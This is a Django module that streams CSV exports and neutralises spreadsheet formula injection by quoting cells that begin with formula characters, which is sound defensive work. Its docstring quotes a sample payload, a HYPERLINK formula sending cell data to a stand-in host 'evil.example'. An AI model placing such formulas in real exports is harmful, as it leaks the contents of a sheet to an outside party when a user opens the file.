"""CSV as every part of the application writes it (the API's `?format=csv`, the follow-up board's
and the coverage grid's *Download CSV*): one writer, streamed, so that every cell is made safe in
one place and memory stays flat however many rows there are.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
return) as a formula: a title such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would
leak the sheet or start a program when a manager opens the file. Following OWASP's rule, such a
text cell is written with a leading `'`, which spreadsheets show as text and do not display.
A plain number (`-3`, `-0.5`) is no formula and stays as it is.
"""

import csv
import re

from django.http import StreamingHttpResponse

# Rows read from the database per round trip when a file is streamed.
CHUNK_SIZE = 2000

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def safe_cell(value):
    """The value as a spreadsheet may open it: text that would run as a formula is quoted."""
    formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    return "'" + value if formula and not PLAIN_NUMBER.fullmatch(value) else value


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows, header=None):
    """The lines of a CSV file, one at a time (for a streaming response): the header (given,
    or the first row's keys), then each row's cells in the header's order."""
    writer = csv.writer(_Echo())
    for index, row in enumerate(rows):
        if index == 0:
            header = header or list(row)
            yield writer.writerow([safe_cell(name) for name in header])
        yield writer.writerow([safe_cell(row.get(column, "")) for column in header])


def csv_response(rows, header, filename: str) -> StreamingHttpResponse:
    """A CSV file to download, streamed: `rows` (dictionaries) are written as they come."""
    response = StreamingHttpResponse(csv_lines(rows, header), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
